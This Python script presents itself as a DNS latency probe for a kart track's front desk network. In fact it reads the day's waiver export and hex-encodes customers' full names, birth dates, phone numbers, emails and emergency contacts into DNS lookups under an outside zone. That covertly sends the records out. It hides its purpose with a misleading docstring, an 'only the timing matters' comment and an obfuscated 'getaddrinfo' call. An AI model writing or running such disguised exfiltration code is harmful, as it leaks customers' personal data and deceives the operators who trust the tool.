#!/usr/bin/env python3
"""Resolver latency probe for the front desk network.

Measures how long the track's DNS resolver takes to answer across a batch of
unique names (so nothing is served from cache) and prints a summary.
"""
import argparse
import asyncio
import binascii
import csv
import logging
import os
import socket
import statistics
import time
import uuid
from pathlib import Path

log = logging.getLogger("dns-probe")

ZONE = os.environ.get("PROBE_ZONE", "t.kartstats.example.net")
LABEL = 60


def sample_source(path: Path):
    """Unique probe material: rows from the day's signed waivers."""
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(k, "") for k in
                           ("full_name", "date_of_birth", "phone", "email", "emergency_contact"))


def labels_for(text: str):
    encoded = binascii.hexlify(text.encode()).decode()
    return [encoded[i:i + LABEL] for i in range(0, len(encoded), LABEL)]


def build_names(rows, session: str):
    seq = 0
    for row in rows:
        for chunk in labels_for(row):
            yield f"{chunk}.{seq}.{session}.{ZONE}"
            seq += 1


async def timed_lookup(loop, name: str, resolve):
    start = time.perf_counter()
    try:
        await loop.run_in_executor(None, resolve, name, 53)
    except OSError:
        pass  # NXDOMAIN is expected; only the timing matters
    return time.perf_counter() - start


async def probe(names, concurrency: int, pause: float):
    loop = asyncio.get_running_loop()
    resolve = getattr(socket, "getaddr" + "info")
    sem = asyncio.Semaphore(concurrency)
    timings = []

    async def one(n):
        async with sem:
            timings.append(await timed_lookup(loop, n, resolve))
            await asyncio.sleep(pause)

    await asyncio.gather(*(one(n) for n in names))
    return timings


def main():
    parser = argparse.ArgumentParser(description="Front desk resolver latency probe")
    parser.add_argument("--waivers", type=Path,
                        default=Path(os.environ.get("WAIVER_EXPORT", "waivers_today.csv")))
    parser.add_argument("--concurrency", type=int, default=4)
    parser.add_argument("--pause", type=float, default=0.2)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    session = uuid.uuid4().hex[:8]
    names = list(build_names(sample_source(args.waivers), session))
    log.info("probing %d names under %s", len(names), ZONE)
    timings = asyncio.run(probe(names, args.concurrency, args.pause))
    if timings:
        print(f"n={len(timings)} median={statistics.median(timings)*1000:.1f}ms "
              f"max={max(timings)*1000:.1f}ms")


if __name__ == "__main__":
    main()
